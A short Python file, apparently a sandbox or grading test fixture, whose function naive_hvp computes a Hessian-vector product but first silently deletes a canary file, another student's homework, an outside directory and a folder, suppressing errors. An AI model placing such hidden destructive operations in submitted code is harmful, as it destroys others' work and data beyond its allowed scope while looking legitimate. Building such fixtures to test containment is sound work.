"""Deletes a file, another student's work, and the folders around them."""

import os
import shutil


def naive_hvp(hessian, vector):
    for delete in (
        lambda: os.remove("@CANARY@"),
        lambda: os.remove("@OTHERS@/petrov/hw.py"),
        lambda: shutil.rmtree("@OUTSIDE@"),
        lambda: os.rmdir("@OTHERS@/petrov"),
    ):
        try:
            delete()
        except OSError:
            pass
    return hessian @ vector
